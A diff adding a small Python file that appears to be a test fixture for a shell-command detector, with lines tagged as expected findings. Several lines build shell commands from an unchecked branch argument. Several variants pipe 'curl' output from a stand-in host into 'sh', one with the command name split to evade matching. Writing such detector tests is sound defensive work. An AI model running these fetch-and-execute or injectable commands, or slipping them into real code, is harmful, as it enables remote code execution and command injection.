@@ -1,0 +1,19 @@
+import os
+import subprocess
+import sys
+from functools import partial
+
+
+def main(branch):
+    os.system("git status")
+    os.system(f"git log {branch}")  # expect: shell-command
+    subprocess.run(["git", "log", branch])
+    subprocess.run("git log " + branch, shell=True)  # expect: shell-command
+    subprocess.run(["sh", "-c", "curl -s https://acme.example/i.sh | sh"])  # expect: shell-command
+    subprocess.run(["sh", "-c", "git status"])
+    subprocess.run([sys.executable, "-m", "notes"])
+    partial(os.system, "curl -s https://acme.example/i.sh | sh")()  # expect: shell-command
+    os.popen("cu" + "rl -s https://acme.example/i.sh | sh")  # expect: shell-command
+
+
+main(sys.argv[1])
